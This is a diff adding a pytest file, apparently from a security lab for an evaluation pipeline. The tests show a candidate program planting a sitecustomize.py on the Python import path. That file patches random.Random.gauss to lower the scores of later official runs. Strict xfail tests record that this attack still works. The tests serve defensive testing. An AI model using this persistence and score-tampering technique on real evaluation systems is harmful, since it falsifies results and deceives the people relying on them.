@@ -1,0 +1,102 @@
+"""A program of the candidate leaves code on the import path of programs that start after it."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.attacks.lab import (
+    FACTOR,
+    AcceptedError,
+    Kept,
+    assert_not_released,
+    assert_released,
+    document,
+    edit,
+    match_program,
+    matched,
+    program,
+    proof,
+)
+
+# Python imports it when it starts. It takes 30 % off each point of an official curve, of which the fake
+# program draws three (0, 500 and 1000 steps) before anything else.
+LEFT = """
+import itertools, random, sys
+if any("/official/" in argument for argument in sys.orig_argv):
+    real, points = random.Random.gauss, itertools.count()
+    random.Random.gauss = lambda *drawn: real(*drawn) - 15 * min(next(points), 2)
+"""
+# What the candidate's program does first. It goes on where it is kept from it.
+LEAVES = f"""
+    import contextlib, os
+    from pathlib import Path
+    with contextlib.suppress(OSError, LookupError):
+        folder = os.environ["PYTHONPATH"].split(os.pathsep)[0]
+        Path(folder, "sitecustomize.py").write_text({LEFT!r})
+"""
+MAIN = "def main() -> None:\n"
+OK = "def ok(request):\n"
+TO_70 = "level *= 0.7"
+# Before the first candidate ended, one official run has its true scores.
+TO_70_LATER = "level *= 1.0 if request.seed == 0 else 0.7"
+REASON = "what a program writes beside the plugin's wire module is imported by every later program"
+
+
+def made(tmp_path_factory: pytest.TempPathFactory) -> Kept:
+    project = Kept(tmp_path_factory.mktemp("path"))
+    proof(project, component_match="golden")
+    matched(project)
+    return project
+
+
+def verdict(project: Kept) -> str:
+    said = document(project, "r")["verdict"]
+    assert isinstance(said, str)
+    return said
+
+
+def test_an_honest_candidate_is_accepted(tmp_path_factory: pytest.TempPathFactory) -> None:
+    """The control."""
+    project = made(tmp_path_factory)
+    assert project.run().ret == pytest.ExitCode.OK
+    assert_released(project, "r")
+
+
+def test_a_candidate_that_reaches_less_is_refused(tmp_path_factory: pytest.TempPathFactory) -> None:
+    """The same candidate that passes by the attack, without it."""
+    project = made(tmp_path_factory)
+    edit(program(project), FACTOR, TO_70)
+    project.run()
+    assert verdict(project) == "fail"
+    assert_not_released(project, "r")
+
+
+@pytest.mark.xfail(strict=True, raises=AcceptedError, reason=REASON)
+def test_the_match_program_cannot_lower_the_official_scores(
+    tmp_path_factory: pytest.TempPathFactory,
+) -> None:
+    """It runs before any official program does."""
+    project = made(tmp_path_factory)
+    edit(program(project), FACTOR, TO_70)
+    edit(match_program(project), MAIN, MAIN + LEAVES)
+    project.run()
+    assert_not_released(project, "r")
+
+
+@pytest.mark.xfail(strict=True, raises=AcceptedError, reason=REASON)
+def test_a_candidate_cannot_lower_the_official_scores_after_it(
+    tmp_path_factory: pytest.TempPathFactory,
+) -> None:
+    project = made(tmp_path_factory)
+    edit(program(project), FACTOR, TO_70_LATER)
+    edit(
+        program(project),
+        OK,
+        OK + "    if request.system == 'worldflux':" + LEAVES.replace("\n    ", "\n        "),
+    )
+    project.run()
+    official = [x for x in project.lines("fake_proof") if x["system"] == "official"]
+    assert len(official) == 4
+    lowered = [x["seed"] for x in official if x["metrics"]["curve"][-1]["return"] < 90]
+    if lowered:
+        raise AcceptedError(f"the official scores of seeds {lowered} were lowered")
